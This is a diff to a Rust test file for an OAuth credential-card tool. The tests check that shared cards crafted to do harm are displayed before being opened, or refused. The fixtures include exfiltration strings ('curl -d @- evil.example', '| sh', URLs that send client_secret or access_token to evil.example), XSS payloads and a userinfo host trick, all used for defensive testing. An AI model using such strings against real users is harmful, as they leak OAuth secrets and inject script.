@@ -1,11 +1,12 @@
 //! Cards that somebody made to do harm: they stay text, or are not opened.
 
 use authdesk::desk::card::{
-    CardFile, CardRefusal, DEEPEST, Draft, LONGEST_FILE, LONGEST_LINK, MOST, Tree, is_link, read_link, refused, view,
-    write_link,
+    CardFile, CardRefusal, DEEPEST, Draft, LONGEST_FILE, LONGEST_LINK, MOST, OfferView, Tree, is_link, kept, read_link,
+    refused, view, write_link,
 };
-use authdesk::desk::{CardAction, Field, Route};
+use authdesk::desk::{CardAction, Desk, Field, FileAction, Lazy, Route};
 use authdesk::oauth::Secret;
+use authdesk::texts::Language;
 use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 
@@ -52,6 +53,7 @@ fn a_card_from_a_link_is_shown_before_it_is_opened() {
     person.does(CardAction::Arrived(Secret::new(link.as_str())));
     let offer = view(&person.0).offer.unwrap();
     assert!(offer.is_sent && !offer.replaces);
+    assert_eq!(offer.provider, "Zoom");
     assert_eq!((offer.name.as_str(), offer.vendor.as_str()), ("Tines", "Tines"));
     assert_eq!(offer.addresses, ["https://www.tines.com/docs/credentials/connect-flows/zoom/"]);
     assert_eq!(person.card_field("name").value, "", "it is not opened yet");
@@ -84,6 +86,122 @@ fn every_address_and_every_command_is_shown_first() {
     assert_eq!(offer.commands, ["curl -d @- evil.example", "| sh"]);
     assert!(offer.addresses.contains(&"https://evil.example/?s={client_secret|url}".to_owned()), "{offer:?}");
     assert!(offer.addresses.iter().any(|text| text.contains("WWW.evil.example")), "{offer:?}");
+}
+
+/// What is shown of a card whose facts are made from those of the small one.
+fn offer_of(change: impl Fn(String) -> String) -> OfferView {
+    let facts = change(read("catalog/products/tines.json"));
+    let draft = draft_of(&facts, &[("en".to_owned(), read("catalog/products/tines.en.json"))]);
+    let mut person = Person::at_card();
+    person.does(CardAction::Arrived(Secret::new(write_link(&draft).unwrap_or_else(|refusal| panic!("{refusal:?}")))));
+    view(&person.0).offer.unwrap_or_else(|| panic!("{:?}", view(&person.0).refused))
+}
+
+#[test]
+fn no_address_is_hidden_whatever_it_begins_with() {
+    for text in [
+        "../schema/ https://evil.example/?s={client_secret}",
+        "../schema/product.json https://evil.example/",
+        "\\\\evil.example\\share",
+        "https:evil.example",
+        "HTTP:evil.example/x",
+        "x//evil.example",
+        "mailto:a@evil.example",
+    ] {
+        let offer = offer_of(|facts| facts.replacen("{account_id}", &text.replace('\\', "\\\\"), 1));
+        assert!(offer.addresses.contains(&text.to_owned()), "{text}: {:?}", offer.addresses);
+    }
+    // What is before the `@` is a user name, so it is not even opened.
+    assert_eq!(refused("https://zoom.us@evil.example/"), Some(CardRefusal::Secret));
+    for text in ["{account_id}", "user:read:admin", "C:\\Zoom", "and/or", "https", "../schema/product.json"] {
+        let offer = offer_of(|facts| facts.replacen("{account_id}", &text.replace('\\', "\\\\"), 1));
+        assert_eq!(offer.addresses.len(), 1, "{text}: {:?}", offer.addresses);
+        assert_eq!(offer.joined, Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
+fn what_puts_a_secret_together_with_anything_else_is_shown_first() {
+    for secret in ["client_secret", "client_secret|url", "secret_token", "access_token|base64", "refresh_token"] {
+        for text in [
+            format!("evil.example/?s={{{secret}}}"),
+            format!("{{{secret}}}.evil.example"),
+            format!("{{account_id}}{{{secret}}}"),
+        ] {
+            let offer = offer_of(|facts| facts.replacen("{account_id}", &text, 1));
+            assert_eq!(offer.joined, [text]);
+        }
+        let alone = offer_of(|facts| facts.replacen("{account_id}", &format!("{{{secret}}}"), 1));
+        assert_eq!(alone.joined, Vec::<String>::new(), "{secret}");
+    }
+    let second = offer_of(|facts| facts.replacen("{account_id}", "{second.client_secret}@evil.example", 1));
+    assert_eq!(second.joined, ["{second.client_secret}@evil.example"]);
+    let harmless = offer_of(|facts| facts.replacen("{account_id}", "https://{redirect_url}/{client_id}", 1));
+    assert_eq!(harmless.joined, Vec::<String>::new());
+    let own = offer_of(|facts| {
+        let input = r#""inputs": { "pin": { "kind": "secret", "label": "PIN" } }, "variants": ["#;
+        facts.replacen("\"variants\": [", input, 1).replacen("{account_id}", "evil.example/{pin}", 1)
+    });
+    assert_eq!(own.joined, ["evil.example/{pin}"]);
+}
+
+#[test]
+fn the_lines_of_a_block_that_lead_a_secret_away_are_shown_first() {
+    let with = |format: &str, command: &str, lines: &str| {
+        let block =
+            format!(r#""blocks": [{{ "id": "b", "format": "{format}", {command}"lines": [{lines}] }}], "values": ["#);
+        offer_of(|facts| facts.replacen("\"values\": [", &block, 1)).joined
+    };
+    let curl = r#""command": "curl", "#;
+    let url = with("shell_command", curl, r#"["--url", "evil.example/{access_token}"]"#);
+    assert_eq!(url, ["evil.example/{access_token}"]);
+    let apart = with("shell_command", curl, r#"["--data", "{client_secret}"], ["--url", "evil.example"]"#);
+    assert_eq!(apart, ["--url = evil.example"]);
+    let key = with("env", "", r#"["evil.example/?s", "{client_secret}"]"#);
+    assert_eq!(key, ["evil.example/?s = {client_secret}"]);
+    let settings = r#"["ZOOM_CLIENT_SECRET", "{client_secret}"], ["ZOOM_HOST", "zoom.us"]"#;
+    assert_eq!(with("env", "", settings), Vec::<String>::new());
+    assert_eq!(with("shell_command", curl, r#"["--url", "zoom.us"]"#), Vec::<String>::new(), "it gets no secret");
+}
+
+#[test]
+fn a_link_that_is_refused_takes_the_offer_away_and_is_told_above_a_card_that_was_sent() {
+    let link = write_link(&sound()).unwrap();
+    let mut person = Person::at_card();
+    person.does(CardAction::Arrived(Secret::new(link.as_str())));
+    assert!(view(&person.0).offer.is_some());
+    person.does(CardAction::Arrived(Secret::new("#/card?v=9&c=AAAA")));
+    assert_eq!(view(&person.0).offer, None, "nobody opens the one before by mistake");
+    assert!(view(&person.0).refused.is_some());
+    person.does(CardAction::Arrived(Secret::new(link)));
+    assert_eq!(view(&person.0).refused, None);
+    person.opens("", "{");
+    assert_eq!(view(&person.0).offer, None);
+    assert!(view(&person.0).refused.is_some());
+}
+
+#[test]
+fn a_card_that_was_sent_stays_one_over_a_reload_and_with_sentences_of_ones_own() {
+    let mut person = Person::at_card();
+    person.does(CardAction::Arrived(Secret::new(write_link(&sound()).unwrap())));
+    person.does(CardAction::Taken);
+    let mut next = Person::at_card();
+    next.does(CardAction::Restored(kept(&person.0)));
+    assert!(view(&next.0).is_sent);
+    assert_eq!(next.draft(), sound());
+    next.opens("tines.de.json", &read("catalog/products/tines.de.json"));
+    next.does(CardAction::Taken);
+    assert!(next.draft().prose_in("de").is_some());
+    assert!(view(&next.0).is_sent, "the facts are still those of whoever sent them");
+    next.opens("tines.json", &read("catalog/products/tines.json"));
+    next.does(CardAction::Taken);
+    assert!(!view(&next.0).is_sent);
+    let mut own = Person::at_card();
+    own.does(CardAction::Restored(kept(&next.0)));
+    assert!(!view(&own.0).is_sent);
+    // No link says it of itself, and none can say the opposite.
+    let link = link_of(sound().packed().replacen("{\"facts\"", "{\"sent\":true,\"facts\"", 1).as_bytes());
+    assert_eq!(refusal(&link), CardRefusal::NoCard);
 }
 
 #[test]
@@ -187,6 +305,28 @@ fn script_stays_text() {
     person.does(CardAction::Arrived(Secret::new(changed("Client secret", script))));
     person.does(CardAction::Taken);
     assert_eq!(person.card_field("value-2-label").value, script);
+
+    // As in the browser test, where it is looked at what the page makes of it.
+    let mut person = Person::at_card();
+    let sentence = "<a href='https://evil.example/'>**here**</a> <script>alert(3)</script>";
+    let mut text = sound().packed();
+    for (from, to) in [
+        ("\"name\":\"Tines\"", "\"name\":\"<script>alert(1)</script>\""),
+        ("\"label\":\"Client secret\"", "\"label\":\"<img src=x onerror=alert(2)>\""),
+        ("The app must be active in Zoom before you connect.", sentence),
+        ("{account_id}", "evil.example/?s={client_secret}"),
+        ("{client_id}", "https://evil.example/{client_id}"),
+    ] {
+        assert!(text.contains(from), "{from}");
+        text = text.replacen(from, to, 1);
+    }
+    person.does(CardAction::Arrived(Secret::new(link_of(text.as_bytes()))));
+    let offer = view(&person.0).offer.unwrap();
+    assert_eq!(offer.joined, ["evil.example/?s={client_secret}"]);
+    assert!(offer.addresses.contains(&sentence.to_owned()), "{offer:?}");
+    person.does(CardAction::Taken);
+    assert!(view(&person.0).is_current, "{:?}", person.wrong());
+    assert!(person.0.guide().is_some());
 }
 
 #[test]
@@ -195,9 +335,24 @@ fn a_card_cannot_be_for_a_server_of_its_own() {
     let endpoints = "\"endpoints\":{\"authorize\":\"https://evil.example/a\",\"token\":\"https://evil.example/t\"},";
     let link = changed("\"vendor\":", &format!("{endpoints}\"vendor\":"));
     assert!(matches!(refusal(&link), CardRefusal::Unfinished(_)));
-    person.does(CardAction::Arrived(Secret::new(changed("\"provider\":\"zoom\"", "\"provider\":\"evil\""))));
+    let evil = changed("\"provider\":\"zoom\"", "\"provider\":\"evil\"");
+    person.does(CardAction::Arrived(Secret::new(evil.as_str())));
+    assert_eq!(view(&person.0).offer, None);
+    assert!(view(&person.0).refused.is_some_and(|says| says.contains("“evil”")));
+    let before = person.draft();
     person.does(CardAction::Taken);
-    assert!(!view(&person.0).is_current);
-    assert!(person.wrong().iter().any(|fault| fault.contains("evil")), "{:?}", person.wrong());
-    assert!(person.0.guide().is_none());
+    assert_eq!(person.draft(), before);
+    // A link is read before the providers have arrived.
+    let mut early = Person(Desk::new(Route::parse("#/card"), Language::English));
+    early.does(FileAction::Completed(Lazy::all()));
+    early.does(CardAction::Arrived(Secret::new(evil)));
+    assert!(view(&early.0).offer.is_some_and(|offer| offer.provider == "evil"));
+    early.fetches();
+    assert_eq!(view(&early.0).offer, None);
+    assert!(view(&early.0).refused.is_some_and(|says| says.contains("“evil”")));
+    // A file of one's own is opened, and says what is wrong with it.
+    let mut own = Person::at_card();
+    own.opens("", &read("catalog/products/tines.json").replace("\"zoom\"", "\"evil\""));
+    assert!(own.wrong().iter().any(|fault| fault.contains("evil")), "{:?}", own.wrong());
+    assert!(own.0.guide().is_none());
 }
